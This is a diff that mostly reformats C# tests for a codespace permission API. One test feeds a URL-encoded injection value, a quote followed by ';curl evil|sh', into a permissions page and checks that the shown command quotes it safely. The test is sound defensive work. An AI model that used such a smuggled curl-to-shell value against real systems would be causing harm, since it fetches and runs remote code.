@@ -8,7 +8,10 @@ using Microsoft.Extensions.DependencyInjection;
 
 namespace Berth.Tests.Codespaces.Permissions;
 
-/// <summary>What users let codespaces of a repository read of others, in rows and requests; what a configuration asks for is put there as a start does.</summary>
+/// <summary>
+/// What users let codespaces of a repository read of others, in rows and requests; what a configuration asks for is put there as a start
+/// does.
+/// </summary>
 public sealed class PermissionTests(CodespaceServer shared)
 {
     private sealed record Situation(Person Owner, Person Member, string Acme, string App, string Lib, string Image, long LibId);
@@ -82,16 +85,20 @@ public sealed class PermissionTests(CodespaceServer shared)
         var elsewhere = await world.Member.RepositoryAsync(world.Member.Login, "mine");
         foreach (var name in new[] { hidden, $"{world.Acme}/no-such", elsewhere, world.App, "lib", $"{world.Acme}/*", "a/b/c" })
         {
-            var refused = await world.Member.SendAsync("PUT", $"/repos/{world.App}/codespaces/permissions", $$"""{"repositories":["{{world.Lib}}","{{name}}"]}""");
+            var refused = await world.Member.SendAsync(
+                "PUT", $"/repos/{world.App}/codespaces/permissions", $$"""{"repositories":["{{world.Lib}}","{{name}}"]}""");
             Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.Status);
-            Assert.Contains($"'{name}' is not another repository of {world.Acme} that you can read", refused.Message, StringComparison.Ordinal);
+            Assert.Contains(
+                $"'{name}' is not another repository of {world.Acme} that you can read", refused.Message, StringComparison.Ordinal);
         }
 
         // Nothing of a list with a fault is taken.
         Assert.Empty(await PermittedAsync(world.Member, world.App));
         foreach (var (body, message) in new[] { ("{}", "repositories is missing"), ("""{"repositories":"x"}""", "must be a list") })
         {
-            Assert.Contains(message, (await world.Member.SendAsync("PUT", $"/repos/{world.App}/codespaces/permissions", body)).Message, StringComparison.Ordinal);
+            Assert.Contains(
+                message, (await world.Member.SendAsync("PUT", $"/repos/{world.App}/codespaces/permissions", body)).Message,
+                StringComparison.Ordinal);
         }
     }
 
@@ -110,10 +117,12 @@ public sealed class PermissionTests(CodespaceServer shared)
     public async Task The_wish_to_go_without_stays_with_the_codespace()
     {
         var world = await WorldAsync();
-        var id = (await world.Member.DoAsync("POST", $"/repos/{world.App}/codespaces", """{"multi_repo_permissions_opt_out":true}"""))["id"].GetInt64();
+        var id = (await world.Member.DoAsync("POST", $"/repos/{world.App}/codespaces", """{"multi_repo_permissions_opt_out":true}"""))["id"]
+            .GetInt64();
         var row = await shared.Server.Services.GetRequiredService<Db>().ReadAsync(session => CodespaceTable.FindAsync(session, id), Token);
         Assert.True(row!.PermissionsOptOut);
-        var refused = await world.Member.SendAsync("POST", $"/repos/{world.App}/codespaces", """{"multi_repo_permissions_opt_out":"yes"}""");
+        var refused = await world.Member.SendAsync(
+            "POST", $"/repos/{world.App}/codespaces", """{"multi_repo_permissions_opt_out":"yes"}""");
         Assert.Equal(HttpStatusCode.UnprocessableEntity, refused.Status);
     }
 
@@ -121,15 +130,24 @@ public sealed class PermissionTests(CodespaceServer shared)
     public async Task The_page_of_a_permission_says_what_to_run_and_nothing_that_a_link_could_slip_in()
     {
         using var client = shared.Server.Client(null);
-        var text = await client.GetStringAsync(new Uri("/codespaces/allow-permissions/acme/app?ref=main&devcontainer_path=.devcontainer/a%20b/devcontainer.json", UriKind.Relative), Token);
-        Assert.Contains("berth codespace permissions allow acme/app --ref main --devcontainer-path '.devcontainer/a b/devcontainer.json'\n", text, StringComparison.Ordinal);
-        var hostile = await client.GetStringAsync(new Uri("/codespaces/allow-permissions/acme/a%27%3Bcurl%20evil%0A%7Csh", UriKind.Relative), Token);
+        var text = await client.GetStringAsync(
+            new Uri(
+                "/codespaces/allow-permissions/acme/app?ref=main&devcontainer_path=.devcontainer/a%20b/devcontainer.json",
+                UriKind.Relative),
+            Token);
+        Assert.Contains(
+            "berth codespace permissions allow acme/app --ref main --devcontainer-path '.devcontainer/a b/devcontainer.json'\n", text,
+            StringComparison.Ordinal);
+        var hostile = await client.GetStringAsync(
+            new Uri("/codespaces/allow-permissions/acme/a%27%3Bcurl%20evil%0A%7Csh", UriKind.Relative), Token);
         Assert.Contains("""permissions allow 'acme/a'\'';curl evil|sh'""", hostile, StringComparison.Ordinal);
     }
 
     private static CancellationToken Token => TestContext.Current.CancellationToken;
 
-    /// <summary>A private library with a private image that inherits its access; a member may write to the app and read the library.</summary>
+    /// <summary>
+    /// A private library with a private image that inherits its access; a member may write to the app and read the library.
+    /// </summary>
     private async Task<Situation> WorldAsync()
     {
         var owner = await shared.Server.UserAsync("olga");
@@ -164,13 +182,19 @@ public sealed class PermissionTests(CodespaceServer shared)
         return (new Person(shared.Server, created["name"].GetString()!, secret), id);
     }
 
-    private Task AskAsync(long codespace, params long[] targets) => WriteAsync(session => CodespacePermissionTable.SetTargetsAsync(session, codespace, targets));
+    private Task AskAsync(long codespace, params long[] targets) =>
+        WriteAsync(session => CodespacePermissionTable.SetTargetsAsync(session, codespace, targets));
 
     private Task WriteAsync(Func<DbSession, Task> body) => shared.Server.Services.GetRequiredService<Db>().WriteAsync(body, Token);
 
     private static Task PermitAsync(Person user, string repository, params string[] targets) => user.DoAsync(
-        "PUT", $"/repos/{repository}/codespaces/permissions", $$"""{"repositories":[{{string.Join(',', targets.Select(target => $"\"{target}\""))}}]}""");
+        "PUT", $"/repos/{repository}/codespaces/permissions",
+        $$"""{"repositories":[{{string.Join(',', targets.Select(target => $"\"{target}\""))}}]}""");
 
     private static async Task<string[]> PermittedAsync(Person user, string repository) =>
-        [.. (await user.DoAsync("GET", $"/repos/{repository}/codespaces/permissions"))["repositories"].EnumerateArray().Select(name => name.GetString()!)];
+        [
+            .. (await user.DoAsync("GET", $"/repos/{repository}/codespaces/permissions"))["repositories"]
+            .EnumerateArray()
+            .Select(name => name.GetString()!),
+        ];
 }
